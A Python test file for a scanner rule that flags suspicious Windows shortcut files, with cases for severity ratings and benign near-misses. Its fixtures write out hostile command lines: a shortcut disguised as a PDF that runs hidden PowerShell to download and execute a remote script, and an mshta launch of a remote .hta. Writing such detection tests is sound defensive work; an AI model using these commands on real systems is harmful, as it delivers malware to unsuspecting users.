"""Windows shortcuts."""

from lazaretto.detect.rules.binary.shortcut_command import RULE


def test_a_shortcut_that_downloads_and_runs(scan, build):
    link = build.lnk("..\\..\\Windows\\System32\\cmd.exe", "/c powershell -w hidden iwr https://a.invalid/x.ps1 | iex")
    (seen,) = scan(RULE, link, "Offer.pdf.lnk")
    assert seen[:2] == ("HIGH", "HIGH")
    assert scan(RULE, build.lnk("mshta.exe", "https://a.invalid/x.hta"), "a.lnk")[0][:2] == ("HIGH", "HIGH")


def test_a_shortcut_to_an_interpreter(scan, build):
    assert scan(RULE, build.lnk("wscript.exe", "x.vbs"), "a.lnk") == [
        ("HIGH", "MEDIUM", "the shortcut runs wscript: wscript.exe x.vbs")
    ]


def test_near_misses(scan, build):
    assert scan(RULE, build.lnk("..\\docs\\manual.html"), "Manual.lnk") == [
        ("LOW", "HIGH", "a Windows shortcut; it starts ..\\docs\\manual.html")
    ]
    assert scan(RULE, build.pe()) == []
